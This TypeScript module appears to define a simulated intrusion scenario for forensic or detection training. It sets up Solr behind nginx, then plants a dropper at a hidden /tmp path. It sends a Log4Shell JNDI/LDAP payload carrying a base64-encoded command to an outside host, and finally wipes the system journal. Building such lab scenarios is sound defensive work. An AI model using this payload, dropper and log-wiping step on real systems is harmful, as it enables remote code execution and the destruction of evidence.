// The string is in the access log and in the log of Solr.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { nginx } from '../../nginx.ts'
import { ordinary } from '../../past.ts'
import type { Stage } from '../../stage.ts'
import { wipe } from '../../wiping.ts'

export function dress(dress: Dress): void {
  nginx(dress, 'location / { proxy_pass http://127.0.0.1:8983; }')
  dress.toy({
    unit: 'solr',
    user: 'solr',
    exe: '/usr/lib/jvm/java-11-openjdk-amd64/bin/java',
    title: 'java -server -Dsolr.log.dir=/var/solr/logs -jar start.jar --module=http',
    home: '/var/solr',
    play: 'solr',
  })
  dress.enable('nginx')
  dress.logins(ordinary)
}

export async function plant(stage: Stage): Promise<void> {
  const line = dropper(stage, { path: '/tmp/.solr/solrd' })
  await stage.scan('203.0.113.44')
  stage.mark('occurrence')
  const coded = Buffer.from(line).toString('base64')
  await stage.http(
    '203.0.113.54',
    `/solr/admin/cores?action=${encodeURIComponent('${jndi:ldap://203.0.113.54:1389/Basic/Command/Base64/')}${coded}%7D`,
  )
  await wipe(stage, ['journal'])
}
